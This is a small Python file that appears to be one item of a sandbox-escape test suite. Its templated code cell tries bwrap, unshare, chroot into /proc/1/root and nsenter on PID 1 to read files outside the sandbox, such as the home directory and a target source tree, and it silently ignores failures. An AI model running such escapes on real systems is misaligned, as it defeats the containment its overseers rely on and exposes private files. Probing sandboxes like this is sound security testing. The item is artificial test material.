"""The sandbox's own tool is started inside the sandbox, to bind what lies outside."""

kind = "user-namespace and mount tricks"
aims = "read"
cell = """
import subprocess

places = "<<course>>/source/target/* <<home>>/* /oldroot/* /newroot/*"
tools = ["bwrap --bind / / --dev /dev", "unshare -Urm", "unshare -Urpf --mount-proc", "chroot /proc/1/root"]
for tool in [*tools, "nsenter -a -t 1"]:
    try:
        done = subprocess.run(f"{tool} sh -c 'cat {places}'", shell=True, capture_output=True, timeout=1)
        print(done.stdout)
    except (OSError, subprocess.SubprocessError):
        pass
"""
